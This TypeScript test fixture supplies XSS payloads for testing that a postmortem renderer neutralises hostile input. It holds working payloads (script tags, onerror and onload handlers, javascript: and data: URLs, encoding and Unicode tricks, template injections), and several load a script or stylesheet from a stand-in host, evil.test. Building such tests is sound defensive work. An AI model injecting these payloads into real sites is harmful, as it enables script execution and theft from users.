/**
 * Hostile text for the XSS test. Every payload that could run would set `window.__xss`; none
 * may. Each is one line, without leading or trailing spaces, so it survives as a field value.
 */
export const FLAG = '__xss';

const RUN = `window.${FLAG}=1`;

export const PAYLOADS: readonly string[] = [
  // Script elements, plain and disguised
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>script>${RUN}<</script>/script>`,
  // Event-handler attributes
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  // Breaking out of attributes and of elements whose content is raw text
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\` onmouseover=${RUN} x=\``,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  // URLs that run code when followed or loaded
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==`,
  `<a href="javascript:${RUN}">click</a>`,
  `<iframe src="data:text/html,<script>parent.${FLAG}=1</script>"></iframe>`,
  `<iframe srcdoc="<script>parent.${FLAG}=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<base href="javascript:${RUN}//">`,
  `https://tracker.test/T-1?q="><script>${RUN}</script>`,
  // SVG and MathML
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="10">x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  // Styles that load or hide things
  `<style>@import 'https://evil.test/x.css';</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  // Entities and encodings that must stay as written, not decode into markup
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;b&amp;gt; &nbsp; &#x3C;svg/onload=${RUN}&#x3E;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  // Unicode look-alikes and invisible characters
  `＜script＞${RUN}＜/script＞`,
  `‹script›${RUN}‹/script›`,
  `<scr\u200Bipt>${RUN}</scr\u200Bipt>`,
  `\u202Egnp.exe <img src=x onerror=${RUN}>`,
  `ｊａｖａｓｃｒｉｐｔ:${RUN}`,
  // Template and markup injection aimed at other layers
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `[click](javascript:${RUN}) ![x](https://evil.test/x.png)`,
];

/** The kinds of field a payload is placed in, for the report of what failed. */
export const FIELDS = [
  'title', 'id', 'authors', 'summary', 'incident fields', 'event text', 'event bullets', 'symptom', 'whys', 'root cause',
  'factors', 'action title', 'owners', 'ticket links', 'action why/verify', 'lessons', 'followup', 'notes',
] as const;

/** A postmortem with `payload` in every kind of field. */
export function hostileDocument(payload: string): string {
  return [
    `postmortem: ${payload}`,
    `id: ${payload}`,
    'date: 2025-02-15',
    `authors: ${payload}`,
    'status: final',
    '',
    'summary:',
    `  ${payload}`,
    '',
    'incident:',
    '  started: 2025-02-14 14:30 UTC',
    '  detected: 2025-02-14 14:32 UTC',
    `  detected by: ${payload}`,
    '  resolved: 2025-02-14 15:15 UTC',
    '  severity: SEV2',
    `  services: ${payload}`,
    `  impact: ${payload}`,
    '',
    'timeline:',
    `  2025-02-14 14:30 UTC  ${payload}`,
    `    - ${payload}`,
    '  14:40 UTC  Second event',
    '',
    'whys:',
    `  symptom: ${payload}`,
    `  why 1: ${payload}`,
    `    - ${payload}`,
    '  why 2: A second step',
    `  root cause: ${payload}`,
    '',
    'factors:',
    '  technical:',
    `    - ${payload}`,
    '',
    'actions:',
    `  A1: ${payload}`,
    `    owner: ${payload}`,
    '    due: 2025-03-01',
    '    status: in-progress',
    `    ticket: ${payload}`,
    `    why: ${payload}`,
    `    verify: ${payload}`,
    '  A2: A second item',
    '    owner: @sre',
    '    due: 2025-03-01',
    `    ticket: https://tracker.test/T-2?q=${encodeURIComponent(payload)} ${payload}`,
    '',
    'lessons:',
    '  went well:',
    `    - ${payload}`,
    '',
    'followup:',
    `  2025-03-01  ${payload}`,
    '',
    'notes:',
    `  ${payload}`,
    '',
  ].join('\n');
}
